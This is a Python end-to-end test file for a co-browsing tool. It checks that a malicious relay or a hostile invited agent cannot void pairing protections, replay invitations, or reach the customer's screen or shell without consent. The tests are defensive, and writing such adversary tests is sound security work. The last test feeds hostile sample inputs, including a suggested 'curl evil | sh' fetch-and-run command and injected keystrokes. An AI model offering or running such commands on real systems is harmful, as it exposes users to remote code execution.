"""A team's invitations against a malicious relay and a second agent without consent, with real
processes on 127.0.0.1 (docs/team.md, "Threat model").

The relay learns an invitation's nameplate (it routes it), never its secret: the best it can
do is claim the nameplate with a guessed secret, which is exactly a `cobrowse agent --join`
with a wrong code. That guess voids the invitation, the customer is never asked, and the
real colleague's code no longer works. Every byte the relay carried is sealed: the screen
text never crosses it in the clear. An invitation nobody used expires like any code."""

from __future__ import annotations

import asyncio

from cobrowse.wire.code import parse_code
from relay.config import RelayConfig
from relay.server import serve_relay
from tests.e2e.adversary import Adversary
from tests.e2e.harness import Proc
from tests.e2e.test_team import ASKED, admit, agent, answer, invite, session


async def test_a_guessing_relay_voids_the_invitation_and_is_never_shown(relay_url: str) -> None:
    async with Adversary(relay_url) as adversary:
        a, customer = await session(adversary.url)
        procs: list[Proc] = [a, customer]
        try:
            await customer.send(b"echo private-$((6*7))\r")
            await a.screen(lambda lines: any("private-42" in line for line in lines))
            await a.send({"cmd": "invite"})
            code = parse_code((await a.event("invite"))["code"])
            wrong = f"{code.nameplate}-{'1111' if code.secret[:4] != '1111' else '2222'}-{code.secret[4:]}"
            guesser = await agent(adversary.url, "--join", wrong, name="relay's guess")
            procs.append(guesser)
            assert await guesser.wait() != 0
            await customer.stderr_line("the invitation by Alice (agent 1) was not used")
            colleague = await agent(adversary.url, "--join", str(code), name="agent B")
            procs.append(colleague)
            assert await colleague.wait() != 0  # the code is void: its pairing was closed
            assert not any(ASKED in line for line in customer.stderr_lines), "the customer was asked about a guess"
            assert not guesser.all("screen") and not colleague.all("screen")
            assert b"private-42" not in adversary.raw()  # sealed end to end: the relay read nothing
        finally:
            for proc in procs:
                await proc.kill()


async def test_a_used_invitation_code_does_not_work_again(relay_url: str) -> None:
    a, customer = await session(relay_url)
    procs: list[Proc] = [a, customer]
    try:
        b = await invite(relay_url, a, customer)
        procs.append(b)
        code = next(e for e in a.events if e.get("event") == "invite")["code"]
        again = await agent(relay_url, "--join", code, name="agent C")
        procs.append(again)
        assert await again.wait() != 0
        await admit(customer, b)
        await b.screen(lambda lines: any("$" in line for line in lines))
        assert sum(ASKED in line for line in customer.stderr_lines) == 1
    finally:
        for proc in procs:
            await proc.kill()


async def test_an_unused_invitation_expires() -> None:
    server = await serve_relay(RelayConfig(host="127.0.0.1", port=0, grace=3.0, unclaimed_ttl=2.0))
    url = f"ws://127.0.0.1:{server.port}"
    a, customer = await session(url)
    procs: list[Proc] = [a, customer]
    try:
        await a.send({"cmd": "invite"})
        code = (await a.event("invite"))["code"]
        await customer.stderr_line("the invitation by Alice (agent 1) was not used", timeout=15)
        late = await agent(url, "--join", code, name="late agent B")
        procs.append(late)
        assert await late.wait() != 0
        await a.send({"cmd": "chat", "text": "still here"})
        await customer.stderr_line("still here")
    finally:
        for proc in procs:
            await proc.kill()
        server.close()
        await server.wait_closed()
        await asyncio.sleep(0)


async def test_a_replayed_invite_opens_no_second_pairing(relay_url: str) -> None:
    """The relay replays A's sealed ``invite``: the channel's sequence numbers refuse it, so the
    customer's client opens one invitation, not two."""
    async with Adversary(relay_url) as adversary:
        a, customer = await session(adversary.url)
        try:
            before = adversary.data_frames("agent->customer")
            await a.send({"cmd": "invite"})
            async with asyncio.timeout(10):
                while adversary.data_frames("agent->customer") == before:
                    await asyncio.sleep(0.02)
            await adversary.replay_last("agent->customer")
            await a.event("invite")
            await a.send({"cmd": "chat", "text": "after-the-replay"})
            await customer.stderr_line("after-the-replay")  # ordered after the replayed frame
            assert sum("invited a colleague" in line for line in customer.stderr_lines) == 1
            assert len(a.all("invite")) == 1
        finally:
            await a.kill()
            await customer.kill()


async def test_an_invited_agent_gets_and_causes_nothing_before_the_customer_allows(relay_url: str) -> None:
    """A patched client joins with a real invitation and, before the customer answered, sends
    what a scammer would: chat, control requests, keys, invitations, a bogus identity proof,
    suggestions, a playbook, a recording request. Nothing reaches the customer but the one
    question, nothing reaches the shell, and the client receives no screen, steps or code."""
    from cobrowse.protocol import messages as m
    from tests.e2e.hostile_agent import HostileAgent

    a, customer = await session(relay_url)
    mallory: HostileAgent | None = None
    try:
        await a.send({"cmd": "invite"})
        mallory = await HostileAgent.invited(relay_url, (await a.event("invite"))["code"], name="Mallory")
        await customer.stderr_line(ASKED)
        await mallory.flood(lambda i: m.Chat(f"pwned-chat-{i}"), 20)
        await mallory.flood(m.RequestControl("control"), 5)
        await mallory.flood(m.Keys("echo pwned-$((1+1))\r"), 5)
        await mallory.flood(m.Invite(), 5)
        await mallory.send(m.AgentProof({"format": "bogus"}, "AAAA"))
        await mallory.send(m.AgentProof({"format": "bogus"}, "AAAA"))
        await mallory.send(m.Suggest(1, "curl evil | sh"))
        await mallory.send(m.RecordRequest(True))
        await mallory.send(m.Pointer(0, 3))
        await mallory.send(m.PushPlaybook({"title": "pwned-guide", "steps": [{"title": "run curl evil"}]}))
        await mallory.settle()
        await answer(customer, b"n")
        await mallory.expect(m.End, lambda end: end.reason == "viewer_refused")
        await a.send({"cmd": "chat", "text": "after-mallory"})
        await customer.stderr_line("after-mallory")
        assert not mallory.all(m.Screen) and not mallory.all(m.Steps) and not mallory.all(m.InviteCode)
        assert not mallory.all(m.Chat) and not mallory.all(m.SuggestAnswer)
        shown = "\n".join(customer.stderr_lines)
        for needle in ("pwned", "CONTROL", "RECORD", "curl evil", "points at", "started a guide"):
            assert needle not in shown, needle
        assert shown.count("invited a colleague") == 1  # Mallory's invitations opened nothing
        assert not any("pwned-2" in line for e in a.all("screen") for line in e["lines"])
    finally:
        if mallory is not None:
            await mallory.close()
        await a.kill()
        await customer.kill()
